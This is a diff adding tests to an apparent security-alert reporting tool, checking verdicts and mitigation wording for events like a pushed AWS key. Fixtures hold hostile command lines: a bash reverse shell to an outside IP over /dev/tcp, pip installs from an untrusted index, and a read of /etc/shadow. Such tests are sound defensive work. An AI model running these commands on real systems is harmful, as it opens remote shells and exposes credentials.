@@ -454,6 +454,21 @@ describe('a report says what the fields support', () => {
     expect(textOf(report, 'Assessment')).toContain('Exposure, if the call succeeded: a policy gives something to everybody')
   })
 
+  test('a secret that was pushed is named by its kind and place, and to be revoked whoever explains it', () => {
+    const found = { desc: 'AWS API Key', files: 'config.py', lines: '12' }
+    const fields = Object.fromEntries(Object.entries(found).map(([name, value]) => [`github.diff.committed_secrets.${name}`, value]))
+    const rule = { rule: 'Secret pushed into a public repository', source: 'github', tags: [] }
+    const report = reportOn(bareEvent(rule, { 'github.user': 'dev1', ...fields }))
+    expect(report.verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
+    expect(textOf(report, 'Verdict')).toContain('What was pushed holds what looks like AWS API Key, in config.py (line 12)')
+    expect(textOf(report, 'Mitigation')).toContain('at once and whoever explains it')
+  })
+
+  test('the rule’s priority is no reason to wait where something grave is shown', () => {
+    const report = reported({ priority: 'Notice', fields: { 'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.24/4444 0>&1' } })
+    expect(textOf(report, 'Conclusion')).toContain("go on with containment, whatever the rule's priority (Notice) says")
+  })
+
   describe('access for everybody on Google Cloud', () => {
     const told = (fields: Readonly<Record<string, string>>, rule = 'GCP Bucket configured to be public') =>
       reportOn(bareEvent({ rule, source: 'gcp_auditlog', tags: [] }, { 'gcp.user': 'ana', ...fields }))
@@ -681,6 +696,8 @@ describe('a report says what the fields support', () => {
 
   test.each([
     ['a peer outside', packages, { 'proc.cmdline': 'pip install --index-url http://203.0.113.9/simple evil' }],
+    ['an index that somebody names', packages, { 'proc.cmdline': 'pip install --index-url http://packages.example/simple x' }],
+    ['a web server above', packages, { 'proc.aname[3]': 'nginx' }],
     ['a binary elsewhere', packages, { 'proc.exepath': '/tmp/apk' }],
     ['a rule about other things', 'Drop and execute new binary in container', {}],
     ['credentials', 'Read sensitive file untrusted', { 'evt.type': 'openat', 'fd.name': '/etc/shadow' }],
